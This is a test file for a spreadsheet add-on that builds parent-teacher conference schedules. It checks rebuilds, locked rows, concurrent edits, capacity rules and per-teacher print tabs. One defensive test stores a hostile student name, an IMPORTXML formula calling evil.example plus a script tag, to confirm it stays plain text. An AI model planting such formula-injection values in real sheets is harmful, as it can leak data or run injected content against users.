/**
 * Build schedule on the built bundle: a preview that writes nothing, then one write of every row;
 * a teacher's locks and moved times kept on a rebuild; a rebuild with no change changes nothing;
 * people's text stays text. Each written schedule is checked from the sheet itself, independently
 * of the engine: capacity per teacher and time, one place per family at a time, a student once.
 */
import { scheduleCsvRows } from '../../demo/files';
import { openSchool } from '../../preview/school';
import type { JobProgress, Overview, Result, SchedulePreview } from '../../src/shared/api';
import { ok, sortBackwards } from './calls';

type School = ReturnType<typeof openSchool>;

function run(school: School, job: string): JobProgress {
  for (let i = 0; i < 20; i++) {
    const p = ok<JobProgress>(school.bundle.callFromClient('runJob', [job]));
    if (p.done) return p;
  }
  throw new Error(`${job} never finished`);
}

function scheduleSheet(school: School) {
  return school.emulator.spreadsheet.sheetByName('Schedule')!;
}

/** schedule.csv as the demo writes it: one row per conference, dates and HH:MM in the school's zone. */
function conferences(school: School) {
  const [header, ...rows] = scheduleCsvRows(
    scheduleSheet(school),
    school.emulator.spreadsheet.timeZone,
  );
  return rows.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i]!])));
}

const minutes = (hhmm: string) => Number(hhmm.slice(0, 2)) * 60 + Number(hhmm.slice(3, 5));

/** Hard rules read back from the sheet, not from the engine's bookkeeping. */
function violations(school: School): string[] {
  const errors: string[] = [];
  const teachers = school.emulator.spreadsheet.sheetByName('Teachers')!.displayValues().slice(1);
  const capacity = new Map<string, number>();
  for (const t of teachers)
    capacity.set(String(t[0]), Math.max(capacity.get(String(t[0])) ?? 0, Number(t[6] || 1)));
  const rows = conferences(school).filter((c) => c.Status !== 'cancelled');
  const seen = new Set<string>();
  for (const c of rows) {
    for (const id of c['Student IDs']!.split(';')) {
      if (seen.has(id)) errors.push(`student ${id} twice`);
      seen.add(id);
    }
    if (minutes(c.End!) <= minutes(c.Start!))
      errors.push(`${c['Conference ID']} ends before it starts`);
  }
  for (let i = 0; i < rows.length; i++) {
    const a = rows[i]!;
    let sameTeacherAtOnce = 1;
    for (let j = 0; j < rows.length; j++) {
      const b = rows[j]!;
      if (i === j || a.Date !== b.Date) continue;
      const overlap = minutes(a.Start!) < minutes(b.End!) && minutes(b.Start!) < minutes(a.End!);
      if (overlap && a.Teacher === b.Teacher && minutes(b.Start!) <= minutes(a.Start!))
        sameTeacherAtOnce++;
      if (overlap && j > i && a['Family ID'] === b['Family ID'])
        errors.push(`family ${a['Family ID']} in two places at ${a.Date} ${a.Start}`);
    }
    if (sameTeacherAtOnce > (capacity.get(a.Teacher!) ?? 1))
      errors.push(`${a.Teacher} hosts ${sameTeacherAtOnce} families at ${a.Date} ${a.Start}`);
  }
  return errors;
}

function freshSchool(students = 120): School {
  const school = openSchool({ students });
  run(school, 'setup');
  return school;
}

/** A student added to the Roster after the schedule was built: Student ID 99001. */
function addNewcomer(school: School): void {
  const roster = school.emulator.spreadsheet.sheetByName('Roster')!;
  const late = [...roster.values()[1]!];
  late[0] = '99001';
  late[1] = 'Newcomer, Sam';
  late[5] = 'newcomer@family.example';
  late[6] = '';
  roster.appendRow(late);
}

/** A school whose schedule is built, its Schedule sheet, and a column's number by header. */
function scheduled() {
  const school = freshSchool();
  run(school, 'schedule');
  const sheet = scheduleSheet(school);
  const header = sheet.values()[0]!.map(String);
  return { school, sheet, col: (h: string) => header.indexOf(h) + 1 };
}

describe('building the schedule', () => {
  it('previews without writing anything, then writes every conference in one setValues', () => {
    const school = freshSchool();
    const before = JSON.stringify(scheduleSheet(school).rows);
    const preview = ok<SchedulePreview>(school.bundle.callFromClient('previewSchedule', []));
    expect(preview.students).toBe(120);
    expect(preview.placed + preview.unplaced.length).toBe(120);
    expect(JSON.stringify(scheduleSheet(school).rows)).toBe(before);
    const writes = Object.keys(school.emulator.ws.reports.at(-1)!.callsByMethod).filter((m) =>
      /\.(set|insert|append|delete)/.test(m),
    );
    expect(writes).toEqual([]);

    const done = run(school, 'schedule');
    expect(done.message).toContain(
      `Scheduled ${preview.placed} of 120 students in ${preview.conferences} conferences`,
    );
    const calls = school.emulator.ws.reports.at(-1)!.callsByMethod;
    expect(calls['SpreadsheetApp.Range.setValues']).toBe(1);
    expect(conferences(school)).toHaveLength(preview.conferences);
    expect(violations(school)).toEqual([]);
  });

  it('gives every student it cannot place a reason that names the bottleneck', () => {
    const school = openSchool({ students: 200, teachers: 3 });
    run(school, 'setup');
    const preview = ok<SchedulePreview>(school.bundle.callFromClient('previewSchedule', []));
    expect(preview.unplaced.length).toBeGreaterThan(0);
    for (const u of preview.unplaced) {
      expect(u.reason).toMatch(
        /windows are full: \d+ conferences for \d+ places|availability|interpreter/,
      );
      expect(u.where?.sheet).toBe('Roster');
    }
    // After the build the Schedule step still says who is waiting, with a link to each row.
    run(school, 'schedule');
    const overview = ok<Overview>(school.bundle.callFromClient('getOverview', []));
    const step = overview.steps.find((s) => s.id === 'schedule')!;
    expect(step.status).toBe('attention');
    expect(step.counts.find((c) => c.label === 'not placed yet')?.value).toBe(
      preview.unplaced.length,
    );
    expect(step.problemCount).toBe(preview.unplaced.length);
    expect(step.problems[0]!.where).toEqual(
      preview.unplaced.find((u) => step.problems[0]!.message.startsWith(u.name))?.where,
    );
  });

  it('places no new conference in a window whose day is already gone, and says so', () => {
    // The preview's clock is 2 November 2026; a window typed as 20 October is in the past.
    const school = freshSchool();
    const teachers = school.emulator.spreadsheet.sheetByName('Teachers')!;
    const header = teachers.displayValues()[0]!.map(String);
    const dateColumn = header.indexOf('Date') + 1;
    teachers.put(2, dateColumn, { v: '2026-10-20' });
    run(school, 'schedule');
    const days = new Set(conferences(school).map((c) => c.Date));
    expect(days.has('2026-10-20')).toBe(false);
    expect(conferences(school).length).toBeGreaterThan(0);
    const overview = ok<Overview>(school.bundle.callFromClient('getOverview', []));
    const messages = overview.steps.flatMap((s) => s.problems.map((p) => p.message));
    expect(messages.some((m) => /2026-10-20 is in the past, so no new conference/.test(m))).toBe(
      true,
    );
  });

  it('rebuilt with nothing changed, leaves the sheet exactly as it was', () => {
    const school = freshSchool();
    run(school, 'schedule');
    const first = JSON.stringify(scheduleSheet(school).values());
    run(school, 'schedule');
    expect(JSON.stringify(scheduleSheet(school).values())).toBe(first);
  });

  it("keeps a teacher's locked row and moved time, and the notes people added, when rebuilt", () => {
    const { school, sheet, col } = scheduled();
    // The teacher moves the first conference 5 minutes later and locks it, and writes a note on another.
    const moved = sheet.cell(2, col('Start'))!.v as Date;
    sheet.put(2, col('Start'), {
      v: new Date(moved.getTime() + 5 * 60_000),
      nf: sheet.cell(2, col('Start'))!.nf,
    });
    sheet.put(2, col('End'), {
      v: new Date((sheet.cell(2, col('End'))!.v as Date).getTime() + 5 * 60_000),
      nf: sheet.cell(2, col('End'))!.nf,
    });
    sheet.put(2, col('Locked'), { v: true });
    const lockedId = sheet.cell(2, col('Conference ID'))!.v;
    sheet.put(3, col('Notes'), { v: 'Grandmother comes instead' });
    const notedId = sheet.cell(3, col('Conference ID'))!.v;
    const lockedRow = JSON.stringify(sheet.values()[1]);

    run(school, 'schedule');
    const after = sheet.values();
    expect(JSON.stringify(after.find((r) => r[col('Conference ID') - 1] === lockedId))).toBe(
      lockedRow,
    );
    expect(after.find((r) => r[col('Conference ID') - 1] === notedId)?.[col('Notes') - 1]).toBe(
      'Grandmother comes instead',
    );
    expect(violations(school)).toEqual([]);
  });

  it('keeps an edit made while the rebuild runs: a Locked box ticked, a note typed, a reminder marked', () => {
    const { school, sheet, col } = scheduled();
    const built = sheet.values();
    // A teacher (and the reminder step) edit after the build has read the sheet, before it writes.
    const edited = school.emulator.ws.interruptAt(
      'SpreadsheetApp.Range.setNumberFormats',
      1,
      () => {
        sheet.put(4, col('Locked'), { v: true });
        sheet.put(5, col('Notes'), { v: 'Grandmother comes too' });
        sheet.put(6, col('Reminders Sent'), { v: 'day-before' });
      },
    );
    run(school, 'schedule');
    expect(edited()).toBe(true);
    expect(sheet.cell(4, col('Locked'))?.v).toBe(true);
    expect(sheet.cell(5, col('Notes'))?.v).toBe('Grandmother comes too');
    expect(sheet.cell(6, col('Reminders Sent'))?.v).toBe('day-before');
    // Everything else is the build's, as the first build left it.
    const after = sheet.values();
    const untouched = (rows: unknown[][]) =>
      rows.map((r, i) =>
        r.filter(
          (_, c) =>
            !(i === 3 && c === col('Locked') - 1) &&
            !(i === 4 && c === col('Notes') - 1) &&
            !(i === 5 && c === col('Reminders Sent') - 1),
        ),
      );
    expect(JSON.stringify(untouched(after))).toBe(JSON.stringify(untouched(built)));
    expect(violations(school)).toEqual([]);
  });

  it('keeps an attended or no-show mark made at check-in while the rebuild runs, and still sets the Status it changes', () => {
    const { school, sheet, col } = scheduled();
    // Read by the build as rescheduled: a status the build puts back to scheduled.
    sheet.put(3, col('Status'), { v: 'rescheduled' });
    const edited = school.emulator.ws.interruptAt(
      'SpreadsheetApp.Range.setNumberFormats',
      1,
      () => {
        sheet.put(4, col('Status'), { v: 'attended' });
        sheet.put(5, col('Status'), { v: 'no-show' });
      },
    );
    const ids = sheet.values().map((r) => r[col('Conference ID') - 1]);
    run(school, 'schedule');
    expect(edited()).toBe(true);
    expect(sheet.values().map((r) => r[col('Conference ID') - 1])).toEqual(ids);
    expect(sheet.cell(3, col('Status'))?.v).toBe('scheduled');
    expect(sheet.cell(4, col('Status'))?.v).toBe('attended');
    expect(sheet.cell(5, col('Status'))?.v).toBe('no-show');
    expect(violations(school)).toEqual([]);
  });

  it('moves an edit made while the rebuild runs with its row when the row moves: a note, a check-in mark', () => {
    const { school, sheet, col } = scheduled();
    const id = (row: number) => sheet.cell(row, col('Conference ID'))!.v;
    // A locked conference is kept first, so the rows above it move down.
    sheet.put(5, col('Locked'), { v: true });
    const [noted, marked] = [id(2), id(3)];
    // Typed after the build read the Schedule's values, before it writes.
    const edited = school.emulator.ws.interruptAt(
      'SpreadsheetApp.Range.getNumberFormats',
      1,
      () => {
        sheet.put(2, col('Notes'), { v: 'Grandmother comes too' });
        sheet.put(3, col('Status'), { v: 'no-show' });
      },
    );
    run(school, 'schedule');
    expect(edited()).toBe(true);
    const after = sheet.values();
    const rowOf = (conference: unknown) =>
      after.findIndex((r) => r[col('Conference ID') - 1] === conference) + 1;
    expect(rowOf(noted)).not.toBe(2);
    expect(rowOf(marked)).not.toBe(3);
    expect(sheet.cell(rowOf(noted), col('Notes'))?.v).toBe('Grandmother comes too');
    expect(sheet.cell(rowOf(marked), col('Status'))?.v).toBe('no-show');
    expect(violations(school)).toEqual([]);
  });

  it('finds every row again by its Conference ID when a person sorts the Schedule while the rebuild runs', () => {
    const { school, sheet, col } = scheduled();
    const id = (row: number) => String(sheet.cell(row, col('Conference ID'))!.v);
    const count = sheet.values().length;
    const rooms = new Map<string, unknown>();
    for (let row = 2; row <= count; row++) {
      sheet.put(row, col('Notes'), { v: `note of ${id(row)}` });
      rooms.set(id(row), sheet.cell(row, col('Room'))?.v);
      // Mistyped Rooms the build puts right, so it writes the rows that stay.
      if (row % 2 === 1) sheet.put(row, col('Room'), { v: 'Gym?' });
    }
    const ids = sheet
      .values()
      .slice(1)
      .map((r) => r[col('Conference ID') - 1]);
    // Sorted the other way round just after the build read the Schedule.
    const sorted = school.emulator.ws.interruptAt('SpreadsheetApp.Range.getNumberFormats', 1, () =>
      sortBackwards(sheet),
    );
    run(school, 'schedule');
    expect(sorted()).toBe(true);
    const after = sheet.values().slice(1);
    expect(after.map((r) => r[col('Conference ID') - 1]).sort()).toEqual(ids.sort());
    for (const r of after) {
      const conference = String(r[col('Conference ID') - 1]);
      expect(r[col('Notes') - 1]).toBe(`note of ${conference}`);
      expect(r[col('Room') - 1]).toBe(rooms.get(conference));
    }
    expect(violations(school)).toEqual([]);
  });

  it('writes, on rows that stay, the cells the build computes, in one block per run of its columns', () => {
    const { school, sheet, col } = scheduled();
    // A person's mistyped Room on a row that stays is the build's to put right.
    const room = sheet.cell(3, col('Room'))!.v;
    sheet.put(3, col('Room'), { v: 'Gym?' });
    const before = school.emulator.ws.reports.length;
    run(school, 'schedule');
    expect(sheet.cell(3, col('Room'))?.v).toBe(room);
    const calls = school.emulator.ws.reports.slice(before).map((r) => r.callsByMethod);
    const writes = calls.reduce((n, c) => n + (c['SpreadsheetApp.Range.setValues'] ?? 0), 0);
    // Two blocks: every row stays, each written from Conference ID to Status, and in Mode, the
    // Schedule's last column (how the family meets), apart from them past the people's columns.
    expect(col('Mode')).toBeGreaterThan(col('Notes'));
    expect(writes).toBe(2);
  });

  it('places students added after the invitations went out without moving anyone invited', () => {
    const school = freshSchool(60);
    run(school, 'schedule');
    const sheet = scheduleSheet(school);
    const header = sheet.values()[0]!.map(String);
    const status = header.indexOf('Status') + 1;
    for (let row = 2; row <= sheet.values().length; row++) sheet.put(row, status, { v: 'invited' });
    const invited = JSON.stringify(sheet.values().slice(1));
    addNewcomer(school);

    run(school, 'schedule');
    const rows = sheet.values().slice(1);
    expect(JSON.stringify(rows.slice(0, -1))).toBe(invited);
    expect(rows.at(-1)![header.indexOf('Student IDs')]).toBe('99001');
    expect(rows.at(-1)![status - 1]).toBe('scheduled');
    expect(violations(school)).toEqual([]);
  });

  it('adds new conferences below a row a person typed under the Schedule while the rebuild ran', () => {
    const school = freshSchool(60);
    run(school, 'schedule');
    const sheet = scheduleSheet(school);
    const header = sheet.values()[0]!.map(String);
    const col = (h: string) => header.indexOf(h) + 1;
    const count = sheet.values().length;
    // Invited conferences stay where they are: the newcomer's is the one new row.
    for (let row = 2; row <= count; row++) sheet.put(row, col('Status'), { v: 'invited' });
    addNewcomer(school);
    const typed = school.emulator.ws.interruptAt('SpreadsheetApp.Range.getNumberFormats', 1, () =>
      sheet.put(count + 1, col('Notes'), { v: 'Parking: use the back lot' }),
    );
    run(school, 'schedule');
    expect(typed()).toBe(true);
    expect(sheet.cell(count + 1, col('Notes'))?.v).toBe('Parking: use the back lot');
    expect(sheet.cell(count + 1, col('Conference ID'))?.v ?? '').toBe('');
    expect(sheet.cell(count + 2, col('Student IDs'))?.v).toBe('99001');
    expect(violations(school)).toEqual([]);
  });

  it('writes no row for a conference a person deleted while the rebuild ran, and moves no cell onto another', () => {
    const { school, sheet, col } = scheduled();
    const id = (row: number) => String(sheet.cell(row, col('Conference ID'))!.v);
    const count = sheet.values().length;
    for (let row = 2; row <= count; row++) {
      sheet.put(row, col('Notes'), { v: `note of ${id(row)}` });
      sheet.put(row, col('Room'), { v: 'Gym?' });
    }
    const gone = [id(4), id(count)];
    const deleted = school.emulator.ws.interruptAt(
      'SpreadsheetApp.Range.getNumberFormats',
      1,
      () => {
        sheet.deleteRows(count, 1);
        sheet.deleteRows(4, 1);
      },
    );
    run(school, 'schedule');
    expect(deleted()).toBe(true);
    const after = sheet.values().slice(1);
    const ids = after.map((r) => String(r[col('Conference ID') - 1]));
    // Planned again from the sheet as it is: the deleted conferences do not come back (their
    // students, still on the Roster, are placed anew), and no cell lands on another conference.
    for (const conference of gone) expect(ids).not.toContain(conference);
    expect(ids.every(Boolean)).toBe(true);
    expect(new Set(ids).size).toBe(ids.length);
    for (const r of after) {
      const note = String(r[col('Notes') - 1] ?? '');
      if (note) expect(note).toBe(`note of ${String(r[col('Conference ID') - 1])}`);
      expect(r[col('Room') - 1]).not.toBe('Gym?');
    }
    expect(after.filter((r) => String(r[col('Notes') - 1] ?? '')).length).toBe(count - 3);
  });

  it('keeps a conference deleted while a rebuild that moves rows ran deleted, and leaves no blank row', () => {
    const { school, sheet, col } = scheduled();
    const id = (row: number) => String(sheet.cell(row, col('Conference ID'))!.v);
    const students = (rows: unknown[][]) =>
      rows.flatMap((r) => String(r[col('Student IDs') - 1]).split(/;\s*/)).sort();
    const count = sheet.values().length;
    const placed = students(sheet.values().slice(1));
    // A locked last row is kept and written first, so every row the build makes moves down one:
    // the deleted conference's slot is taken by another conference read there.
    sheet.put(count, col('Locked'), { v: true });
    sheet.put(4, col('Status'), { v: 'invited' });
    const gone = id(4);
    const deleted = school.emulator.ws.interruptAt('SpreadsheetApp.Range.getNumberFormats', 1, () =>
      sheet.deleteRows(4, 1),
    );
    run(school, 'schedule');
    expect(deleted()).toBe(true);
    const after = sheet.values().slice(1);
    const ids = after.map((r) => String(r[col('Conference ID') - 1]));
    // Deleting an invited conference cancels it: it does not come back with its Status (its event
    // would never be cancelled); its student, still on the Roster, is placed anew, once.
    expect(ids).not.toContain(gone);
    expect(ids.every(Boolean)).toBe(true);
    expect(new Set(ids).size).toBe(ids.length);
    expect(students(after)).toEqual(placed);
  });

  it('writes nothing, and says so, when a conference is deleted during each of three plans', () => {
    const { school, sheet } = scheduled();
    const edits = [1, 2, 3].map((nth) =>
      school.emulator.ws.interruptAt('SpreadsheetApp.Range.getNumberFormats', nth, () =>
        sheet.deleteRows(4, 1),
      ),
    );
    const before = sheet.values().length;
    const r = school.bundle.callFromClient('runJob', ['schedule']) as {
      ok: boolean;
      error?: { message: string };
    };
    expect(edits.map((happened) => happened())).toEqual([true, true, true]);
    expect(r.ok).toBe(false);
    expect(r.error!.message).toContain('Build the schedule again');
    // Only the person's three deletions: the build wrote no row.
    expect(sheet.values().length).toBe(before - 3);
  });

  it('reports, and does not fix, a conflict a teacher creates by hand in locked rows', () => {
    const school = freshSchool(60);
    run(school, 'schedule');
    const sheet = scheduleSheet(school);
    const header = sheet.values()[0]!.map(String);
    const col = (h: string) => header.indexOf(h) + 1;
    const rows = sheet.values().slice(1);
    // Two conferences of a one-family-at-a-time teacher, locked onto the same time.
    const capacityOne = conferences(school).find((c) => c.Teacher === 'Ms. Nguyen')!; // capacity 1 in the sample
    const pair = rows
      .map((r, i) => ({ r, row: i + 2 }))
      .filter(({ r }) => r[col('Teacher') - 1] === capacityOne.Teacher)
      .slice(0, 2);
    const [first, second] = pair;
    for (const h of ['Date', 'Start', 'End'])
      sheet.put(second!.row, col(h), { ...sheet.cell(first!.row, col(h))! });
    for (const p of pair) sheet.put(p.row, col('Locked'), { v: true });
    const clash = JSON.stringify(sheet.values()[second!.row - 1]);

    const preview = ok<SchedulePreview>(school.bundle.callFromClient('previewSchedule', []));
    const warning = preview.problems.find(
      (p) =>
        p.where?.sheet === 'Schedule' &&
        /locked or invited conference breaks a rule/.test(p.message),
    );
    expect(warning).toBeDefined();
    expect([first!.row, second!.row]).toContain(warning!.where!.row);
    run(school, 'schedule');
    expect(JSON.stringify(sheet.values().find((r) => r[0] === JSON.parse(clash)[0]))).toBe(clash);
  });

  it('keeps hostile names and number-like rooms as text, never a formula', () => {
    const school = openSchool({ students: 30 });
    const roster = school.emulator.spreadsheet.sheetByName('Roster')!;
    roster.put(2, 2, { v: '=IMPORTXML("http://evil.example","//a"), <script>x</script>' });
    run(school, 'setup');
    run(school, 'schedule');
    const sheet = scheduleSheet(school);
    const header = sheet.values()[0]!.map(String);
    const students = header.indexOf('Students') + 1;
    const room = header.indexOf('Room') + 1;
    const rows = sheet.values().slice(1);
    const hostile = rows.findIndex((r) => String(r[students - 1]).includes('IMPORTXML'));
    expect(hostile).toBeGreaterThanOrEqual(0);
    const cell = sheet.cell(hostile + 2, students)!;
    expect(cell.f).toBeUndefined();
    expect(String(cell.v)).toContain('<script>x</script>');
    // Rooms "101", "103"... read back as the text people typed, not the number 101 nor "'101".
    for (const r of rows) expect(String(r[room - 1])).toMatch(/^(\d{3}|Video call)$/);
    expect(rows.every((r) => typeof r[room - 1] === 'string')).toBe(true);
  });
});

describe("the teachers' print views", () => {
  it('makes one tab per teacher with their conferences in time order, and remakes them without duplicates', () => {
    const school = freshSchool(80);
    run(school, 'schedule');
    const done = run(school, 'views');
    const doc = school.emulator.spreadsheet;
    const teachers = [...new Set(conferences(school).map((c) => c.Teacher!))].sort();
    const tabs = doc.sheets.filter((s) => s.name.endsWith(' – schedule'));
    expect(tabs.map((s) => s.name).sort()).toEqual(teachers.map((t) => `${t} – schedule`));
    expect(done.message).toContain(`Made ${teachers.length} print views`);
    const rivera = doc.sheetByName('Ms. Rivera – schedule')!;
    const shown = rivera.displayValues();
    expect(shown[0]).toEqual([
      'Date',
      'Start',
      'End',
      'Room',
      'Students',
      'Family',
      'Language',
      'Interpreter',
      'Status',
      'Notes',
    ]);
    const mine = conferences(school).filter((c) => c.Teacher === 'Ms. Rivera');
    expect(shown.length - 1).toBe(mine.length);
    const order = rivera
      .values()
      .slice(1)
      .map((r) => (r[0] as Date).getTime() * 1e6 + (r[1] as Date).getTime());
    expect(order).toEqual([...order].sort((a, b) => a - b));

    // A teacher renames her tab; rebuilt, it is found by ID and no second tab appears.
    rivera.name = 'Rivera to print';
    run(school, 'views');
    expect(doc.sheets.filter((s) => s.name.startsWith('Ms. Rivera')).length).toBe(0);
    expect(doc.sheetByName('Rivera to print')!.displayValues().length - 1).toBe(mine.length);
    // Roster, Teachers, Schedule, Availability, Feedback, Student Prep, Reflections and Summary, and one tab a teacher.
    expect(doc.sheets.length).toBe(8 + teachers.length);
  });

  // "Ms. Rivera" and "ms. rivera" are two teachers on the Schedule, but Sheets refuses two tabs
  // whose names differ only in case (docs/EMULATOR.md row 7): the second gets " (2)".
  it('gives teachers whose names differ only in case a tab each, and remakes them without duplicates', () => {
    const school = freshSchool(80);
    run(school, 'schedule');
    const doc = school.emulator.spreadsheet;
    expect(doc.sheetNamesIgnoreCase).toBe(true);
    const sheet =
      school.emulator.globals.SpreadsheetApp.getActiveSpreadsheet()!.getSheetByName('Schedule')!;
    const values = sheet.getDataRange().getValues();
    const col = values[0]!.indexOf('Teacher');
    const rows = values.filter((r) => r[col] === 'Ms. Rivera');
    expect(rows.length).toBeGreaterThan(1);
    rows.forEach((r, i) => {
      if (i % 2) r[col] = 'ms. rivera';
    });
    sheet.getDataRange().setValues(values);
    const done = run(school, 'views');
    expect(done.done).toBe(true);
    const tabs = doc.sheets.filter((s) => s.name.toLowerCase().startsWith('ms. rivera – schedule'));
    expect(tabs.map((s) => s.name.replace(/^ms\. rivera/i, '')).sort()).toEqual([
      ' – schedule',
      ' – schedule (2)',
    ]);
    expect(new Set(tabs.map((s) => s.name.slice(0, 10)))).toEqual(
      new Set(['Ms. Rivera', 'ms. rivera']),
    );
    expect(tabs[0]!.values().length - 1 + tabs[1]!.values().length - 1).toBe(rows.length);
    const count = doc.sheets.length;
    run(school, 'views');
    expect(doc.sheets.length).toBe(count);
  });

  it('refuses to write over a tab of the same name that people made', () => {
    const school = freshSchool(40);
    run(school, 'schedule');
    const teacher = conferences(school)[0]!.Teacher!;
    const theirs = school.emulator.spreadsheet.insertSheet(`${teacher} – schedule`);
    theirs.appendRow(['my own notes']);
    const r = school.bundle.callFromClient('runJob', ['views']) as Result<JobProgress>;
    expect(r.ok).toBe(false);
    if (!r.ok) expect(r.error.message).toContain('is not one the add-on made');
    expect(theirs.values()).toEqual([['my own notes']]);
  });
});

describe("a teacher's places, as the Schedule and Conference days steps count them", () => {
  it('are what the window holds: the family buffer between rooms is not spent between one teacher’s conferences, the changeover is', () => {
    const s = openSchool({ empty: true });
    const doc = s.emulator.spreadsheet;
    const roster = doc.sheets[0]!;
    roster.name = 'Roster';
    roster.appendRow(['Student ID', 'First Name', 'Last Name', 'Teacher', 'Guardian 1 Email']);
    roster.appendRow(['1', 'Amy', 'Adams', 'Ms. Rivera', 'pat@adams.example']);
    const teachers = doc.insertSheet('Teachers');
    teachers.appendRow(['Teacher', 'Email', 'Date', 'Start', 'End', 'Room', 'Capacity']);
    // Four hours, two families at once.
    teachers.appendRow([
      'Ms. Rivera',
      'rivera@school.example',
      '2026-11-17',
      '15:00',
      '19:00',
      '101',
      '2',
    ]);
    run(s, 'setup');
    const settings = ok<{ settings: Record<string, unknown> }>(
      s.bundle.callFromClient('getSettings', []),
    ).settings;
    const places = (changeoverMinutes: number) => {
      ok(
        s.bundle.callFromClient('saveSettings', [
          { ...settings, conferenceMinutes: 25, bufferMinutes: 10, changeoverMinutes },
        ]),
      );
      const preview = ok<SchedulePreview>(s.bundle.callFromClient('previewSchedule', []));
      const days = ok<Overview>(s.bundle.callFromClient('getOverview', [])).steps.find(
        (x) => x.id === 'days',
      )!;
      return [
        preview.perTeacher[0]!.places,
        days.counts?.find((c) => c.label === 'places of 25 min')?.value,
      ];
    };
    // 240 minutes hold 9 conferences of 25 back to back (225), 8 with 5 minutes between (235);
    // two at once doubles both.
    expect(places(0)).toEqual([18, 18]);
    expect(places(5)).toEqual([16, 16]);
  });
});
